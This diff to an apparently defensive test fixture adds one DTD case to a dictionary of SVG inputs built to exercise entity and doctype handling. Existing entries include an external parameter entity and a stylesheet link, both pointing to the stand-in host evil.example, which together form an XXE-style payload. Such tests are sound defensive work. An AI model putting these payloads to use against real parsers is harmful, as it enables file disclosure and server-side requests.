@@ -259,6 +259,7 @@ ENTITIES = {
     "a file for the document type": (
         '<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/a"> %a;]>' + HEAD + "</svg>"
     ),
+    "an attribute for all": '<!DOCTYPE svg [<!ATTLIST g fill CDATA "red">]>' + HEAD + "<g/></svg>",
     "unknown": '<!DOCTYPE svg PUBLIC "a" "b">' + HEAD + "<text>&a;</text></svg>",
     "a style sheet": '<?xml-stylesheet href="http://evil.example/a.css"?>' + HEAD + "</svg>",
 }
